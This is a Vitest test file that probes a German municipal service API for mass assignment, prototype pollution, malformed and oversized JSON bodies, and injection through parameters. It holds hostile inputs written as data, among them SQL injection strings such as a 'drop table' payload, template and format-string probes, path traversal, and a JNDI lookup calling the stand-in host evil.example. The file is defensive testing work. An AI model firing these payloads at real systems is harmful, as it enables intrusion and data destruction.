/** Attacks by what stands in a body or a query: shapes, sizes and signs that nobody sends in earnest. */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Attacker, type AttackHouse, openAttackHouse } from './testing/attack-house.ts';

const KOELN = '053150000000';

let house: AttackHouse;
let person: Attacker;
beforeAll(async () => {
  house = await openAttackHouse();
  person = await house.person({
    name: 'Erika',
    memberships: [{ ars: KOELN, level: 'municipality', role: 'manager' }],
  });
});
afterAll(() => house.close());

const patch = (body: unknown, type?: string) =>
  person.ask('PATCH', '/api/account', { body, ...(type && { type }) });
const nameNow = async () => (await person.ask('GET', '/api/account')).json().name;

describe('mass assignment', () => {
  it.each([
    ['an id', { name: 'Max', id: '01930000-0000-7000-8000-000000000000' }],
    ['a role', { name: 'Max', role: 'operator' }],
    ['memberships', { name: 'Max', memberships: [{ ars: KOELN, role: 'operator', level: 'federal' }] }],
    ['another address', { name: 'Max', email: 'max@nachbar.example' }],
    ['a verified address', { name: 'Max', emailVerified: true }],
    ['a young session', { name: 'Max', isFresh: true }],
    ['an instant', { name: 'Max', createdAt: '1970-01-01T00:00:00Z' }],
  ])('%s in the own account is refused whole', async (_name, body) => {
    expect((await patch(body)).status).toBe(400);
    expect(await nameNow()).toBe('Erika');
  });

  it.each([
    [
      'POST',
      `/api/desk/${KOELN}/invitations`,
      { email: 'a@b.example', role: 'editor', language: 'de', invitedBy: 'x' },
    ],
    [
      'POST',
      `/api/desk/${KOELN}/invitations`,
      { email: 'a@b.example', role: 'editor', language: 'de', ars: '010615168107' },
    ],
    [
      'PUT',
      `/api/desk/${KOELN}/mandates/053000000000`,
      { level: 'region', scope: 'full', ars: '010615168107' },
    ],
    ['POST', '/api/account/code', { email: 'a@b.example', language: 'de', code: '000000' }],
    ['POST', '/api/account/code/check', { email: 'a@b.example', code: '000000', isNew: false, name: 'x' }],
    ['POST', '/api/invitations/accept', { token: 'x', role: 'manager' }],
    ['PUT', '/api/account/places', { places: [], person: '01930000-0000-7000-8000-000000000000' }],
    ['DELETE', '/api/account', { confirm: 'x', person: '01930000-0000-7000-8000-000000000000' }],
  ])('more than %s %s asks for is refused', async (method, path, body) => {
    expect((await person.ask(method, path, { body })).status).toBe(400);
  });
});

describe('pollution of prototypes', () => {
  it.each([
    '{"__proto__":{"isAdmin":true},"name":"Max"}',
    '{"constructor":{"prototype":{"isAdmin":true}},"name":"Max"}',
    '{"name":{"__proto__":{"toString":"x"}}}',
    '[{"__proto__":{"isAdmin":true}}]',
  ])('%s', async (body) => {
    expect((await patch(body)).status).toBe(400);
    expect(Object.hasOwn(Object.prototype, 'isAdmin')).toBe(false);
    expect(await nameNow()).toBe('Erika');
  });

  it('by the query', async () => {
    for (const query of ['__proto__[x]=1', 'constructor.prototype.x=1', '__proto__=1'])
      expect((await house.stranger('GET', `/api/places?q=K&${query}`)).status).toBeLessThan(500);
    expect(Object.hasOwn(Object.prototype, 'x')).toBe(false);
  });
});

describe('bodies that are no JSON, or too much of it', () => {
  it.each([
    ['broken off', '{"name":"Max"'],
    ['with something behind', '{"name":"Max"} {"name":"Moritz"}'],
    ['a comment', '{/* */"name":"Max"}'],
    ['NaN', '{"name":NaN}'],
    ['nothing', ''],
    ['a bare text', '"Max"'],
    ['null', 'null'],
    ['a number', '1e999'],
    ['a mark of order before it', '\ufeff{"name":1}'],
    ['ten thousand levels', `${'{"name":'.repeat(10_000)}1${'}'.repeat(10_000)}`],
    ['ten thousand lists', `${'['.repeat(10_000)}${']'.repeat(10_000)}`],
  ])('%s', async (_name, body) => {
    const answer = await patch(body);
    expect([400, 413]).toContain(answer.status);
    expect(answer.text).not.toMatch(/node_modules|at .*\.ts:\d/);
    expect(await nameNow()).toBe('Erika');
  });

  it('bytes that are no UTF-8 change no name into something else', async () => {
    const answer = await patch(
      Buffer.concat([Buffer.from('{"name":"'), Buffer.from([0xff, 0xfe, 0xc0, 0x80]), Buffer.from('"}')]),
    );
    expect(answer.status).toBeLessThan(500);
    expect(String(await nameNow())).not.toContain('\0');
    await patch({ name: 'Erika' });
  });

  it('a megabyte and more, with and without its length', async () => {
    const much = JSON.stringify({ name: 'x'.repeat(2_000_000) });
    expect((await patch(much)).status).toBe(413);
    expect((await person.ask('PUT', '/api/account/places', { body: much })).status).toBe(413);
    const chunk = `ffff\r\n${'x'.repeat(0xffff)}\r\n`;
    const answer = await house.raw(
      `PATCH /api/account HTTP/1.1\r\nHost: localhost:8080\r\nOrigin: http://localhost:8080\r\nCookie: ${person.cookie}\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n${chunk.repeat(40)}0\r\n\r\n`,
    );
    expect(answer.status).toBe(413);
  });

  it('a list of a hundred thousand', async () => {
    const places = Array.from({ length: 100_000 }, () => 1);
    expect([400, 413]).toContain(
      (await person.ask('PUT', '/api/account/places', { body: { places } })).status,
    );
  });

  it('a name that stands twice counts once, and is checked as it counts', async () => {
    expect((await patch('{"name":"ok","name":"Erika\\u202e"}')).status).toBe(400);
    expect(await nameNow()).toBe('Erika');
  });
});

describe('parameters', () => {
  const SIGNS = [
    "' or '1'='1",
    "'; drop table kernel.person; --",
    '" or ""="',
    '1) or 1=1--',
    '%27%20or%201=1',
    '\\',
    '%_',
    '$1',
    '{{7*7}}',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the attack
    '${7*7}',
    '\0',
    '\u2028',
    '\ud83d\ude00',
    '%s%s%n',
    '../..',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the attack
    '${jndi:ldap://evil.example/a}',
    'x'.repeat(1_000),
  ];

  it('with signs of SQL, templates, formats and paths make nothing fail and say nothing of the inside', async () => {
    for (const sign of SIGNS) {
      const value = encodeURIComponent(sign);
      for (const path of [
        `/api/places?q=${value}`,
        `/api/search?ars=${KOELN}&q=${value}`,
        `/api/search?ars=${value}&q=x`,
        `/api/places/${value}`,
        `/api/places/${value}/here`,
        `/api/places/${KOELN}/here?lang=${value}`,
        `/api/locate?lon=${value}&lat=50`,
        `/api/services?ars=${KOELN}&q=${value}`,
        `/api/place/holidays?ars=${value}`,
        `/api/desk/${value}`,
        `/api/desk/${KOELN}/audit?before=${value}`,
        `/api/desk/${KOELN}/audit?limit=${value}`,
        `/${KOELN}-koeln/suche?q=${value}`,
        `/${KOELN}-koeln/${value}`,
        `/?q=${value}`,
      ]) {
        const answer = await person.ask('GET', path);
        expect(answer.status, path).toBeLessThan(500);
        expect(answer.text, path).not.toMatch(/syntax error|postgres|node_modules|SELECT |\b49\b.*\{\{/);
      }
      for (const [method, path] of [
        ['DELETE', `/api/account/sessions/${value}`],
        ['DELETE', `/api/account/memberships/${value}`],
        ['DELETE', `/api/desk/${KOELN}/people/${value}`],
        ['DELETE', `/api/desk/${KOELN}/invitations/${value}`],
      ] as const) {
        const { status } = await person.ask(method, path);
        expect(status, path).toBeGreaterThanOrEqual(400);
        expect(status, path).toBeLessThan(500);
      }
    }
    expect(await nameNow()).toBe('Erika');
  });

  it('with signs of SQL in a body are text, no program', async () => {
    for (const sign of SIGNS.filter((one) => one.length <= 100 && !/[\0\u2028]/.test(one))) {
      expect((await patch({ name: sign })).status, sign).toBe(200);
      expect(await nameNow()).toBe(sign.trim());
    }
    await patch({ name: 'Erika' });
  });

  it('that stand twice are refused, or taken as one, never as a list where a text is awaited', async () => {
    for (const path of [
      `/api/search?ars=${KOELN}&ars=010615168107&q=x`,
      '/api/places?q=a&q=b',
      '/api/places?q[]=a',
      '/api/places?q[$ne]=a',
      `/api/desk/${KOELN}/audit?limit=1&limit=100000`,
    ]) {
      const { status } = await person.ask('GET', path);
      expect(status, path).toBeLessThan(500);
      expect([200, 400], path).toContain(status);
    }
  });

  it('beyond every measure are refused in words', async () => {
    for (const value of ['-1', '0', '1e9', '99999999999999999999', 'Infinity', '0x10', '1.5', ' 1'])
      expect([200, 400], value).toContain(
        (await person.ask('GET', `/api/desk/${KOELN}/audit?limit=${encodeURIComponent(value)}`)).status,
      );
    expect((await person.ask('GET', `/api/desk/${KOELN}/audit?limit=100000`)).status).toBe(400);
  });

  it('as JSON of another kind than awaited are refused', async () => {
    for (const value of [1, true, null, [], {}, ['a@b.example'], { $ne: '' }, { toString: 'x' }]) {
      for (const [path, body] of [
        ['/api/account/code', { email: value, language: 'de' }],
        ['/api/account/code/check', { email: 'a@b.example', code: value }],
        ['/api/invitations/look', { token: value }],
      ] as const)
        expect((await house.stranger('POST', path, { body })).status, JSON.stringify(body)).toBe(400);
    }
  });
});
